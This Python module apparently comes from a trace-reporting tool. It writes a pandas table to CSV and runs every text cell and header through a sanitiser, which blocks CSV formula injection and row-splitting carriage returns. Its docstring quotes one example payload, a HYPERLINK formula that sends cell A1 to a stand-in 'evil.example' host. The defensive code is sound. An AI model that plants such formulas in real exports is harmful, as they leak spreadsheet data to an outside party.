"""A table written as CSV: every text cell through text.csv_cell, numbers as numbers.

Block names come from the trace (user and NVTX ranges, kernel functions where no framework
op launched the kernels), rank paths from the file system: a cell such as
`=HYPERLINK("http://evil.example/?"&A1,"click")` or one whose CR starts a new row is data in
the file, never a formula or a row a spreadsheet makes of it. Numeric columns stay numeric
(a -3.2 is a number, not a formula).
"""

from __future__ import annotations

import pandas as pd

from tracekit.reports.text import csv_cell


def write_csv(frame: pd.DataFrame, path: str) -> None:
    out = frame.copy()
    for column in out.columns:
        kind = out[column].dtype
        if kind == object or isinstance(kind, (pd.CategoricalDtype, pd.StringDtype)):
            values = out[column].astype(object)
            out[column] = [None if v is None or (isinstance(v, float) and v != v) else csv_cell(v) for v in values]
    out.columns = [csv_cell(c) for c in out.columns]
    out.to_csv(path, index=False)
